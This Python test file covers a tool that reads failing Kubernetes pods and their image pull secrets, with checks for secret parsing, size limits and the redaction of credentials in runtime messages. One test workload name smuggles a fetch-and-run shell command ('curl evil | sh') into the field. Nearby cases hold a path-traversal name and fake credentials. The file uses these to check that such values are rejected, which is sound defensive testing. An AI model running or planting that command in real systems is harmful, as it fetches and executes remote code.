"""What is read of a failing pod and of its Secrets, and how the words of its runtime are shown."""

import base64
import json
from typing import Any

import pytest

from registries.domain.shown import shown_words
from registries.pull_secrets.explain import PodSecret, SecretState
from registries.pull_secrets.failing import failing_pod, images_of, read_secret
from registries.pull_secrets.matching import KEYS_TEXT, image_name
from tests.pull_secrets.test_faults import TOKEN


def read(encoded: str) -> PodSecret:
    """A Secret with this content in base64."""
    secret = {"type": "kubernetes.io/dockerconfigjson", "data": {".dockerconfigjson": encoded}}
    return read_secret("regcred", secret)


def keys_of(encoded: str) -> tuple[str, ...] | None:
    """Its keys; None if a kubelet cannot read it."""
    found = read(encoded)
    return found.keys if found.state is SecretState.READABLE else None


@pytest.mark.parametrize(
    ("config", "keys"),
    [
        ('{"auths":{"reg.io":{"auth":"dTpw"},"b":{}}}', ("reg.io", "b")),
        ('{"auths":{"reg.io":{"auth":"dTpwcA"}}}', ("reg.io",)),
        (r'{"auths":{"reg.io":{"auth":"dT\npw\r\ncA==\n"}}}', ("reg.io",)),
        (r'{"auths":{"reg.io":{"auth":"dTpw\n"}}}', ("reg.io",)),
        ('{"auths":{"reg.io":{"auth":""}}}', ("reg.io",)),
        ('{"auths":{"reg.io":{"auth":"dTpwcA="}}}', None),
        ('{"auths":{"reg.io":{"auth":" dTpw"}}}', None),
        ('{"auths":{"reg.io":{"auth":"dTpw "}}}', None),
        ('{"auths":{"reg.io":{"auth":"dTpwc"}}}', None),
        ('{"auths":{"reg.io":{"auth":"dTpw===="}}}', None),
        ('{"auths":{"reg.io":{"auth":"dTpw=cA="}}}', None),
        ('{"auths":{}}', ()),
        ("{}", ()),
        ('{"auths":null}', ()),
        ('{"auths":[]}', None),
        ('{"auths":{"reg.io":{"username":5}}}', None),
        ('{"auths":{"reg.io":{"auth":"dXA="}}}', None),
        ('{"auths":{"reg.io":{"auth":"%%%"}}}', None),
        ('{"auths":{"reg.io":"x"}}', None),
        ('{"auths":', None),
        ("[" * 100_000, None),
    ],
)
def test_the_keys_of_a_secret_as_kubelets_read_it(config: str, keys: tuple[str, ...] | None) -> None:
    assert keys_of(base64.b64encode(config.encode()).decode()) == keys


def test_every_kind_of_container_is_looked_at() -> None:
    def status(name: str, reason: str) -> dict[str, object]:
        return {"name": name, "image": "", "state": {"waiting": {"reason": reason, "message": "m"}}}

    names = ("init", "app", "debug")
    pod = {
        "metadata": {"name": "p", "namespace": "n"},
        "spec": {
            f: [{"name": n, "image": f"reg.io/{n}"}]
            for f, n in zip(("initContainers", "containers", "ephemeralContainers"), names, strict=True)
        },
        "status": {
            f: [status(n, "ErrImagePull"), status("x", "CrashLoopBackOff")]
            for f, n in zip(
                ("initContainerStatuses", "containerStatuses", "ephemeralContainerStatuses"),
                names,
                strict=True,
            )
        },
    }

    found = failing_pod(pod)

    assert found
    assert [(it.container, it.image) for it in found.waiting] == [(n, f"reg.io/{n}") for n in names]
    assert (
        failing_pod({"metadata": {}, "status": {"containerStatuses": [{"state": {"running": {}}}]}}) is None
    )
    assert failing_pod({}) is None


def test_little_is_kept_of_a_pod_whose_texts_are_long() -> None:
    long = "x" * 1_000_000
    waiting = {"reason": "ErrImagePull", "message": long}
    spec = {"containers": [{"name": "c", "image": long}] * 60, "imagePullSecrets": [{"name": long}] * 60}
    statuses = [{"name": "c", "image": long, "state": {"waiting": waiting}}] * 60

    pod = failing_pod({"metadata": {}, "spec": spec, "status": {"containerStatuses": statuses}})

    assert pod
    texts = [*pod.secrets, *(text for it in pod.waiting for text in (it.container, it.image, it.message))]
    assert len(texts) == 50 * 4
    assert sum(map(len, texts)) < 50 * 6_000
    assert not any(map(image_name, {it.image for it in pod.waiting}))
    assert max(map(len, images_of({"spec": spec}))) <= 1_000


@pytest.mark.parametrize("key", ["*a" * 350, "a." * 350, "reg.io/" + "a" * 700, "1:" * 350, "%41" * 230])
@pytest.mark.parametrize("first", [0, 600_000])
def test_little_is_kept_of_a_secret_full_of_keys(key: str, first: int) -> None:
    auths = {"x" * first: {}, **{f"{key}{number}": {"auth": "dTpw"} for number in range(200)}, "reg.io": {}}
    config = base64.b64encode(json.dumps({"auths": auths}).encode()).decode()

    keys = keys_of(config)

    assert keys
    assert sum(map(len, keys)) <= KEYS_TEXT
    assert "reg.io" in keys
    assert len(keys) > 50
    assert read(config).cut


@pytest.mark.parametrize(
    ("auths", "keys", "cut"),
    [
        ({"reg.io": {"username": "u", "password": "p"}}, 1, False),
        ({f"h{it}.io": {} for it in range(1_001)}, 1_000, True),
        (
            {f"h{it}.io": {"username": "u" * 255, "password": "p"} for it in range(300)},
            KEYS_TEXT // 255,
            True,
        ),
    ],
)
def test_what_is_left_out_of_a_secret_is_known(auths: dict[str, Any], keys: int, cut: bool) -> None:
    found = read(base64.b64encode(json.dumps({"auths": auths}).encode()).decode())

    assert (len(found.keys), len(found.users), found.cut) == (keys, keys, cut)


@pytest.mark.parametrize(
    ("kind", "name", "labels", "owner"),
    [
        ("ReplicaSet", "web-7d9f", {"pod-template-hash": "7d9f"}, ("Deployment", "web")),
        ("ReplicaSet", "web-7d9f", {"pod-template-hash": "other"}, ("ReplicaSet", "web-7d9f")),
        ("ReplicaSet", "web-", None, ("", "")),
        ("StatefulSet", "db", {}, ("StatefulSet", "db")),
        ("Deployment", "../../team-b/deployments/db", {}, ("", "")),
        ("DaemonSet", "a\x03\ncurl evil | sh", {}, ("", "")),
        ("DaemonSet", "\u202eabc", {}, ("", "")),
        ("DaemonSet", "a" * 254, {}, ("", "")),
    ],
)
def test_the_workload_of_a_pod(
    kind: str, name: str, labels: dict[str, str] | None, owner: tuple[str, str]
) -> None:
    waits = {"name": "c", "state": {"waiting": {"reason": "ErrImagePull"}}}
    owners = [{"kind": "Node", "name": "n"}, {"kind": kind, "name": name, "controller": True}]
    metadata = {"name": "p", "namespace": "n", "labels": labels, "ownerReferences": owners}

    found = failing_pod({"metadata": metadata, "status": {"containerStatuses": [waits]}})

    assert found
    assert found.owner == owner
    mirror = {**metadata, "annotations": {"kubernetes.io/config.mirror": "hash"}}
    static = failing_pod({"metadata": mirror, "status": {"containerStatuses": [waits]}})
    assert static
    assert static.owner == ("Node", "")


def test_a_config_is_data_of_anybody() -> None:
    for config in ([], 5, "x", None, {"auths": {"a": None}}, {"auths": {"a": []}}):
        keys_of(base64.b64encode(json.dumps(config).encode()).decode())
    assert keys_of("A" * 2_000_000) is None


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("401 Unauthorized", "401 Unauthorized"),
        ("no basic auth credentials", "no basic auth credentials"),
        (f"{TOKEN}: 401", f"{TOKEN}: 401"),
        ("a\x00b\u202ec\r\nd\x1b[31m", "a b c d [31m"),
        ("GET https://u:hunter22@reg.io/v2/", "GET https://…reg.io/v2/"),
        ("https://s3/x?X-Amz-Signature=abc: 403", "https://s3/x… 403"),
        ("GET https://u:p@ss@reg.io/v2/: EOF", "GET https://…reg.io/v2/: EOF"),
        (
            "pull reg.io/app@sha256:0a from https://reg.io/v2/app@sha256",
            "pull reg.io/app@sha256:0a from https://reg.io/v2/app@sha256",
        ),
        ("Bearer abcdefgh", "…"),
        ("Authorization: Basic cm9ib3Q6czNjcmV0LXB3", "Authorization: …"),
        ("basic c2VjcmV0LWFiYw: refused", "…: refused"),
        ('{"auth":"cm9ib3Q6czNjcmV0"}', '{"…'),
        ("access_token=abcdefgh, client_secret = hunter22!", "… …"),
        ('"identitytoken": "abcdefgh" end', '"… end'),
        ("failed to fetch anonymous token: EOF", "failed to fetch anonymous token: EOF"),
        ("failed to fetch oauth token: 401", "failed to fetch oauth token: 401"),
        ("basic authentication failed", "basic authentication failed"),
        ("password=hunter22!", "…"),
        ("eyJhbGciOiJIUzI1NiJ9", "…"),
    ],
)
def test_the_words_of_a_runtime_are_cleaned(text: str, shown: str) -> None:
    assert shown_words(text, 300) == shown
